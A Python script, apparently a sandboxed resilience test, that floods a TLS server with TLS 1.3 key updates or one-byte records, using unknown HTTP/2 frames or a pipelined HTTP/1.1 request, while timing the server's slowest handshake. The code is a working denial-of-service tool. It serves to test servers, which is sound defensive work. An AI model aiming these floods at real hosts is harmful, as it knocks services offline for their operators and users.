# SPDX-License-Identifier: Apache-2.0
"""Runs inside the sandbox: tls_floods.py HOST PORT updates|records|behind COUNT. A client of TLS 1.3 that has made so many new
keys before (RFC 8446 section 4.6.3), or records of one byte each (frames of HTTP/2 of a type that nobody knows; or behind a last
request of HTTP/1.1), and sends all of it at once. Beside it somebody asks for a connection again and again. One line of JSON: how it ended, bytes sent, and how
long the other's slowest handshake took."""
import ctypes
import json
import os
import socket
import ssl
import sys
import time

HOST, PORT, KIND, COUNT = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4])
SNI = 55        # SSL_CTRL_SET_TLSEXT_HOSTNAME
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes((0, 0, 0, 4, 0, 0, 0, 0, 0))
LAST = f"GET /none HTTP/1.1\r\nHost: {HOST}\r\nConnection: close\r\n\r\n".encode()
UNKNOWN = bytes((0, 64, 0, 66, 0, 0, 0, 0, 0))  # the head of a frame of 16384 bytes


class OpenSSL:
    """Python's ssl knows no key updates."""
    POINTERS = "TLS_client_method", "SSL_CTX_new", "SSL_new", "BIO_new", "BIO_s_mem"

    def __init__(self):
        self.ssl, self.crypto = ctypes.CDLL("libssl.so.3"), ctypes.CDLL("libcrypto.so.3")

    def __getattr__(self, name):
        f = getattr(self.crypto if name.startswith("BIO") else self.ssl, name)
        f.restype = ctypes.c_void_p if name in self.POINTERS else ctypes.c_int

        def call(*arguments):
            return f(*(ctypes.c_void_p(a) if isinstance(a, int) and a > 1 << 16 else a for a in arguments))
        setattr(self, name, call)
        return call


class Client:
    def __init__(self):
        o = self.o = OpenSSL()
        self.tls = o.SSL_new(o.SSL_CTX_new(o.TLS_client_method()))
        self.into, self.outof = o.BIO_new(o.BIO_s_mem()), o.BIO_new(o.BIO_s_mem())
        o.SSL_set_bio(self.tls, self.into, self.outof)
        o.SSL_set_connect_state(self.tls)
        o.SSL_ctrl(self.tls, SNI, 0, HOST.encode())
        if KIND != "behind":
            o.SSL_set_alpn_protos(self.tls, b"\2h2", 3)
        self.room = ctypes.create_string_buffer(1 << 16)
        self.socket = socket.create_connection((HOST, PORT))
        self.socket.settimeout(20)
        while o.SSL_do_handshake(self.tls) != 1:
            self.socket.sendall(self.output())
            got = self.socket.recv(65536)
            o.BIO_write(self.into, got, len(got))
        self.socket.sendall(self.output())

    def output(self):
        out = b""
        while (n := self.o.BIO_read(self.outof, self.room, len(self.room))) > 0:
            out += self.room.raw[:n]
        return out

    def update(self):
        self.o.SSL_key_update(self.tls, 0)
        self.o.SSL_do_handshake(self.tls)

    def write(self, data):
        self.o.SSL_write(self.tls, data, len(data))

    def flood(self):
        parts = []
        self.write(LAST if KIND == "behind" else PREFACE)
        for i in range(COUNT):
            if KIND == "updates":
                self.update()
            elif KIND == "records" and i % 16384 == 0:
                self.write(UNKNOWN)
            if KIND != "updates":
                self.write(b"x")
            if i % 1000 == 0:
                parts.append(self.output())
        return b"".join(parts) + self.output()


def slowest_handshake(until):
    slowest, context = 0, ssl.create_default_context()
    while not os.path.exists(until):
        began = time.monotonic()
        context.wrap_socket(socket.create_connection((HOST, PORT), 30), server_hostname=HOST).close()
        slowest = max(slowest, time.monotonic() - began)
        time.sleep(0.05)
    return slowest


def main():
    client, done = Client(), f"/tmp/tls-floods-{os.getpid()}"
    flood, (reader, writer) = client.flood(), os.pipe()
    if os.fork() == 0:
        os.write(writer, b"%f" % slowest_handshake(done))
        os._exit(0)
    time.sleep(0.2)
    sent, ended = 0, "taken"
    try:
        while sent < len(flood):
            sent += client.socket.send(flood[sent:sent + 65536])
    except TimeoutError:
        ended = "hangs"
    except OSError:
        ended = "closed"
    open(done, "w").close()
    print(json.dumps({"ended": ended, "sent": sent, "slowest": float(os.read(reader, 100))}))
    os.unlink(done)


main()
